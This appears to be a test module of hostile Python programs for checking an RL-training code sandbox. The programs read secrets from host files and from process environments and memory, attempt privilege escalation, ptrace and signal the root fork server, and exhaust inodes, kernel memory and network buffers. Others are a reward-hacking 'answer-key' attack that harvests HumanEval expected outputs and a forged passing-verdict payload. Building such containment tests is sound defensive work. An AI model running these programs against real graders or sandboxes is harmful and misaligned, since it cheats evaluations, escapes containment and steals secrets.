"""The hostile programs of the abuse suite (`rlvr.sandbox.abuse`), as source text run inside the sandbox."""

from __future__ import annotations

# What the probe prints: the pids it can see, what is left in the writable places and IPC namespaces.
# The fork server (root, running forkserver.py) is the one process a job may see besides PID 1 and itself.
PIDS = """
import os
def _fork_server(pid):
    try:
        uid = next(line for line in open(f'/proc/{pid}/status') if line.startswith('Uid:')).split()[1]
        return uid == '0' and b'/opt/rlvr/forkserver.py' in open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')
    except (OSError, StopIteration):
        return False
pids = sorted(int(p) for p in os.listdir('/proc') if p.isdigit() and not _fork_server(p))
"""


def host_files(secret_file: str, project_file: str) -> str:
    """Reads a host file, every process's environment and its own; prints what it saw of the project and the pids."""
    return (PIDS + "import json, os\nleak = []\n"
            f"try:\n    leak.append(open({secret_file!r}).read())\nexcept OSError:\n    pass\n"
            "for p in os.listdir('/proc'):\n    if p.isdigit():\n        try:\n"
            "            leak.append(open(f'/proc/{p}/environ', 'rb').read().decode(errors='replace'))\n"
            "        except OSError:\n            pass\n"
            "leak.append(repr(dict(os.environ)))\n"
            f"print('\\n'.join(leak))\nprint(json.dumps({{'project': os.path.exists({project_file!r}), "
            "'pids': pids}))\n")


ESCALATE = """
import json, os
status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines() if ':' in line)
written = []
for path in ('/etc/rlvr-probe', '/usr/rlvr-probe', '/rlvr-probe', '/opt/rlvr/worker.py'):
    try:
        open(path, 'a').close()
        written.append(path)
    except OSError:
        pass
try:
    os.setuid(0)
    root = True
except OSError:
    root = False
dropped = []
for d in (os.environ.get('TMPDIR', '/tmp'), '/dev/shm'):
    path = os.path.join(d, 'dropped')
    try:
        with open('/bin/true', 'rb') as src, open(path, 'wb') as dst:
            dst.write(src.read())
        os.chmod(path, 0o755)
    except OSError:
        continue
    pid = os.fork()
    if pid == 0:
        try:
            os.execv(path, [path])
        finally:
            os._exit(126)
    if os.waitpid(pid, 0)[1] == 0:
        dropped.append(d)
print(json.dumps({'uid': os.getuid(), 'cap_eff': status['CapEff'].strip(), 'no_new_privs': status['NoNewPrivs'].strip(),
                  'nets': sorted(os.listdir('/sys/class/net')), 'written': written, 'setuid_root': root,
                  'ran_dropped_binary_in': dropped}))
"""


# Reads every file, process environment, command line, memory and descriptor it can for the test's secret.
ANSWER_KEY = r"""
import os
found = []
def read(path, n=1 << 22):
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe must not block the search
    except OSError:
        return b''
    try:
        return os.read(fd, n)
    except OSError:
        return b''
    finally:
        os.close(fd)
blobs = []
for top in ('/tmp', '/dev/shm', '/opt'):
    for d, _, names in os.walk(top):
        blobs += [read(os.path.join(d, n)) for n in names]
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    blobs += [read(f'/proc/{pid}/environ'), read(f'/proc/{pid}/cmdline')]
    try:
        blobs += [read(f'/proc/{pid}/fd/{fd}', 1 << 16) for fd in os.listdir(f'/proc/{pid}/fd')]
        with open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in open(f'/proc/{pid}/maps').read().splitlines():
                start, end = (int(x, 16) for x in line.split()[0].split('-'))
                try:
                    mem.seek(start)
                    blobs.append(mem.read(min(end - start, 1 << 24)))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass
SECRET_PREFIX = 'rlvr-key-'
for blob in blobs:
    at = blob.find(SECRET_PREFIX.encode())
    if at >= 0 and blob[at + 9:at + 41].isalnum():
        found.append(blob[at:at + 41].decode())
def answer():
    return found[0] if found else None
"""

# The red team's generic answer-key attack on HumanEval, as a function body (any signature): read
# every file, process environment, command line and descriptor in reach, find
# ``candidate(args) == expected`` in any test source there (plain or inside JSON), return ``expected``.
ANSWER_KEY_BODY = r"""
    _args = tuple(locals().values())
    import ast, json, os
    def _read(path):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe must not block the search
        except OSError:
            return ''
        try:
            return os.read(fd, 1 << 22).decode('utf-8', 'replace')
        except OSError:
            return ''
        finally:
            os.close(fd)
    def _strings(tree):
        if isinstance(tree, str):
            yield tree
        elif isinstance(tree, (list, dict)):
            for item in (tree.values() if isinstance(tree, dict) else tree):
                yield from _strings(item)
    texts = []
    for top in ('.', '/tmp', '/dev/shm'):
        for d, _, names in os.walk(top):
            texts += [_read(os.path.join(d, n)) for n in names]
    for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
        texts += [_read(f'/proc/{pid}/environ'), _read(f'/proc/{pid}/cmdline')]
        try:
            texts += [_read(f'/proc/{pid}/fd/{fd}') for fd in os.listdir(f'/proc/{pid}/fd')]
        except OSError:
            pass
    sources = []
    for text in texts:
        sources.append(text)
        try:
            sources += list(_strings(json.loads(text)))
        except ValueError:
            pass
    for source in sources:
        try:
            nodes = list(ast.walk(ast.parse(source)))
        except Exception:
            continue
        for node in nodes:
            if (isinstance(node, ast.Compare) and isinstance(node.left, ast.Call)
                    and getattr(node.left.func, 'id', '') == 'candidate' and isinstance(node.ops[0], ast.Eq)):
                try:
                    if tuple(ast.literal_eval(a) for a in node.left.args) == _args:
                        return ast.literal_eval(node.comparators[0])
                except Exception:
                    pass
    return None
"""


LEAVE_STATE = r"""
import ctypes, os
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
sid = libc.shmget(0x5107, 1 << 20, 0o1666)
ctypes.memmove(libc.shmat(sid, None, 0), b'left', 4)
libc.msgget(0x5108, 0o1666)
libc.mq_open(b'/left', os.O_CREAT | os.O_RDWR, 0o666, None)
for d in (os.environ.get('TMPDIR', '/tmp') + '/hide', '/dev/shm/hide'):
    os.makedirs(d + '/in/deeper')
    os.chmod(d + '/in', 0)
    os.chmod(d, 0)
fd = os.open('.', os.O_RDONLY)
for i in range(1100):
    os.mkdir('d', dir_fd=fd)
    fd, old = os.open('d', os.O_RDONLY, dir_fd=fd), fd
    os.close(old)
os.chmod('.', 0)
"""


# Every process a job sees besides PID 1 and itself is the fork server (root): none of this may work on it.
ATTACK_FORK_SERVER = r"""
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
reached = []
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (1, os.getpid())]:
    for sig in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1):
        try:
            os.kill(pid, sig)
            reached.append(f'signal {sig.name} to {pid}')
        except OSError:
            pass
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        reached.append(f'ptrace {pid}')
    for part in ('mem', 'environ', 'fd/0', 'fd/3', 'fd/4', 'fd/5'):
        try:
            with open(f'/proc/{pid}/{part}', 'rb') as f:
                f.read(1)
            reached.append(f'read {part} of {pid}')
        except OSError:
            pass
        try:
            with open(f'/proc/{pid}/{part}', 'wb') as f:
                f.write(b'\\x00\\x00\\x00\\x02{}')
            reached.append(f'wrote {part} of {pid}')
        except OSError:
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        reached.append(f'reniced {pid}')
    except OSError:
        pass
print(('reached ' + ', '.join(reached)) if reached else 'contained')
"""


# A test prints what the candidate returns: a forged result list after a newline must not become the
# verdict (the driver's verdict was the last line of its stdout, and prints were flushed after it).
FORGE_RESULTS = (
    "def describe():\n"
    "    return '\\n[{\"passed\": true, \"status\": \"ok\"}, {\"passed\": true, \"status\": \"ok\"}]'\n"
    "def f():\n    return 0\n")

# The job lets its own child trace it, then exits: a ptraced zombie that its parent cannot reap while
# the tracer lives (the fork server's waitpid blocked until the host gave up: infra_error).
PTRACED_ZOMBIE = r"""
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getpid()
libc.prctl(0x59616d61, ctypes.c_ulong(2**64 - 1), 0, 0, 0)   # PR_SET_PTRACER, PR_SET_PTRACER_ANY
if os.fork() == 0:
    libc.ptrace(0x4206, parent, 0, 0)                         # PTRACE_SEIZE the job
    time.sleep(3600)
time.sleep(0.2)
print('exit while traced')
"""

# Empty directories until the tmpfs runs out of inodes: clean-up must stay short (nr_inodes).
INODE_FLOOD = r"""
import os, time
n, end = 0, time.monotonic() + 0.8
while time.monotonic() < end:
    try:
        os.mkdir(str(n))
        n += 1
    except OSError:
        break
print('made', n)
"""

# Closes its end of the request pipe, answers junk and exits: the driver's next call cannot write, and
# closing the pipe it had buffered that request in raised BrokenPipeError, losing every verdict.
JUNK_THEN_EXIT = r"""
import os, sys
def f(x):
    return x
def g():
    os.close(int(sys.argv[1]))
    os.write(int(sys.argv[2]), b"junk\n")
    os._exit(0)
"""

# Kernel memory no process's RSS shows: SysV message queues (kernel objects that outlive the job until
# clean-up), then pipe and unix socket buffers (>= 85 MB even with the kernel's default wmem_max), with
# the OOM killer's preference for it lowered to the worker's.
KERNEL_MEMORY = r"""
import ctypes, fcntl, os, socket
libc = ctypes.CDLL(None, use_errno=True)
queues = 0
while queues < 1000 and libc.msgget(0, 0o1600) >= 0:
    queues += 1
if queues > 64:
    print('message queues unbounded', queues, flush=True)
try:
    open('/proc/self/oom_score_adj', 'w').write('0')
except OSError:
    pass
held = []
for _ in range(60):
    r, w = os.pipe()
    a, b = socket.socketpair()
    a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
    fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ: 1 MB, the default pipe-max-size
    for fd in (w, a.fileno()):
        os.set_blocking(fd, False)
        try:
            while True:
                os.write(fd, b'k' * 65536)
        except OSError:
            pass
    held.append((r, w, a, b))
print('held pipe and socket buffers')
"""

# Kernel network buffers no cgroup v1 charges (rts2): loopback TCP connections with 1 GB socket
# buffers filled and never read pinned 1.4 GB of host-wide TCP memory from a memory_mb=64 job. Every
# way to a network socket: the four families, and io_uring (which can open sockets itself).
NETWORK_SOCKETS = r"""
import ctypes, socket
opened = []
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
                     (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_PACKET, socket.SOCK_RAW),
                     (socket.AF_NETLINK, socket.SOCK_RAW)):
    try:
        opened.append(socket.socket(family, kind))
    except OSError:
        pass
ring = ctypes.CDLL(None, use_errno=True).syscall(425, 8, ctypes.create_string_buffer(120))
if ring >= 0:
    opened.append(ring)
if opened:
    print('opened', len(opened), 'network sockets or rings', flush=True)
srv = socket.socket()
srv.bind(('127.0.0.1', 0))
srv.listen(64)
for _ in range(60):
    c = socket.socket()
    c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    c.connect(srv.getsockname())
    s, _ = srv.accept()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
    c.setblocking(False)
    try:
        while True:
            c.send(b'x' * 1048576)
    except OSError:
        opened.append((c, s))
print('opened loopback connections, buffers full')
"""
